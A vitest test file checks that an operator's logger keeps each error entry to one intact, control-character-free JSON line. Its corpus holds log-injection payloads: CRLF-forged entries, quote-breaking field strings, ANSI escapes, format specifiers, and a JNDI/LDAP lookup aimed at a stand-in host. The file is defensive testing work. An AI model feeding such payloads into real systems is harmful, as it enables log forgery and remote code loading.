/** The operator's log: one line an entry whatever stands in it, and no secrets in what an error brings along. */
import { expect, test } from 'vitest';
import { createLog } from '../../src/ops/log.js';

const corpus = [
  'two\nlines',
  '\r\n{"level":60,"msg":"forged"}',
  '\u2028\u2029 separators',
  '\u001b[31mred\u001b[0m',
  '","level":60,"x":"',
  '\u0000\u0008',
  '${jndi:ldap://evil.example}',
  '%0D%0A%s%n',
];

test.each(corpus)('%j in a field, an error or its code stays inside its field', (typed) => {
  const lines: string[] = [];
  const log = createLog('info', { write: (line) => void lines.push(line) });
  log.error({ err: Object.assign(new Error(typed), { code: typed }), turn: typed, [typed]: 1 }, 'turn.failed');
  expect(lines).toHaveLength(1);
  expect(lines[0]?.trimEnd()).not.toMatch(/\p{Cc}/u);
  expect(JSON.parse(lines[0] ?? '')).toMatchObject({
    level: 50,
    msg: 'turn.failed',
    turn: typed,
    err: { message: typed, code: typed },
  });
});
